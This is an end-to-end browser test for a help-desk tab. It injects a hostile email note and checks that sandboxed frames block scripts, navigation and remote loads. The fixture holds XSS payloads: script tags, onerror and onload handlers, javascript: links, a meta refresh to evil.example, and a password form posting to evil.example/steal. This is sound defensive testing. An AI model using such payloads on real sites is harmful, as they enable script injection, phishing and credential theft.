import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStack, type TestStack } from '../support/stack.js';
import { launchBrowser, newPage, signInAsDemoUser, watchForHostileEffects } from './support/browser.js';

// A hostile email as if it had slipped past the API's sanitiser: it is written straight into the store, so
// only the tab's own defences (inert parsing, a sandboxed frame without scripts, a frame CSP) stand between
// it and the agent. Nothing may run, navigate, or load from the sender's server.

const HOSTILE_HTML = `
  <p>Thanks, the Wi-Fi works again.</p>
  <script>window.parent.pwned = 'script'; alert('script')</script>
  <img src="x" onerror="window.parent.pwned = 'onerror'; alert('onerror')">
  <img src="https://evil.example/track.gif" alt="tracker">
  <a href="javascript:window.parent.pwned='link';alert('link')">click me</a>
  <meta http-equiv="refresh" content="0;url=https://evil.example/phish">
  <iframe src="javascript:alert('frame')"></iframe>
  <form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
  <svg onload="alert('svg')"><circle r="4"/></svg>
  <div style="background:url(https://evil.example/bg.png)" onmouseover="alert('hover')">hover me</div>`;

const HOSTILE_QUOTE = `<blockquote>On Monday you wrote:<script>alert('quote')</script><img src="https://evil.example/q.gif"></blockquote>`;

let stack: TestStack;
let browser: Browser;

beforeAll(async () => {
  [stack, browser] = await Promise.all([startStack(), launchBrowser()]);
  await stack.runtime.services.store.transact(async (tx) => {
    await tx.collection('notes').insert({
      id: 'hostile-note',
      requestId: 2,
      typeCode: 'PUBLIC',
      accessLevel: 'User',
      source: 'email',
      bodyHtml: HOSTILE_HTML,
      bodyText: 'Thanks, the Wi-Fi works again.',
      author: { id: 'email', name: 'Mallory' },
      createdAt: new Date().toISOString(),
      email: {
        from: { name: 'Mallory', address: 'mallory@evil.example' },
        subject: 'RE: [SR-000002] New starter',
        receivedAt: new Date().toISOString(),
        signal: 'ec-id',
        elidedHtml: HOSTILE_QUOTE,
      },
    });
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await stack?.close();
});

describe('a hostile email note', () => {
  it('renders without running, navigating or loading anything', async () => {
    const { context, page, problems } = await newPage(browser);
    const { dialogs, evilRequests } = await watchForHostileEffects(context, page);
    const navigations: string[] = [];
    await signInAsDemoUser(page, stack.tabUrl, 'agent@contoso.test');
    page.on('framenavigated', (frame) =>
      navigations.push(frame === page.mainFrame() ? `main: ${frame.url()}` : `frame: ${frame.url()}`),
    );

    await page.evaluate(() => (window.location.hash = '#/requests/SR-000002'));
    const card = page.getByRole('group', { name: 'Email reply from Mallory' });
    await card.waitFor();
    const body = page.frameLocator('iframe[title="Note from Mallory"]');
    await body.getByText('Thanks, the Wi-Fi works again.').waitFor();
    await card.getByText('2 images were not loaded', { exact: false }).waitFor();

    await body.getByText('click me').click();
    await body.getByText('hover me').hover();
    await card.getByRole('button', { name: 'Show quoted text' }).click();
    await page
      .frameLocator('iframe[title="Quoted text of the email from Mallory"]')
      .getByText('On Monday you wrote:')
      .waitFor();

    const frames = await page.$$eval('iframe', (elements) =>
      elements.map((frame) => ({
        sandbox: frame.getAttribute('sandbox') ?? '',
        active:
          (frame.contentDocument?.body.querySelectorAll(
            'script, meta, iframe, form, [onerror], [onload], [onmouseover], [href^="javascript:"], img[src^="http"]',
          ).length ?? -1) +
          (frame.contentDocument?.querySelectorAll('meta[http-equiv="refresh" i]').length ?? -1),
        url: frame.contentWindow?.location.href,
      })),
    );
    expect(frames).toHaveLength(2);
    for (const frame of frames) {
      expect(frame.sandbox.split(/\s+/)).not.toContain('allow-scripts');
      expect(frame.active).toBe(0);
      expect(frame.url).toBe('about:srcdoc');
    }
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(evilRequests).toEqual([]);
    expect(navigations.filter((n) => n.startsWith('main:'))).toEqual([
      `main: ${stack.tabUrl}#/requests/SR-000002`,
    ]);
    expect(problems).toEqual([]);
    await context.close();
  });
});
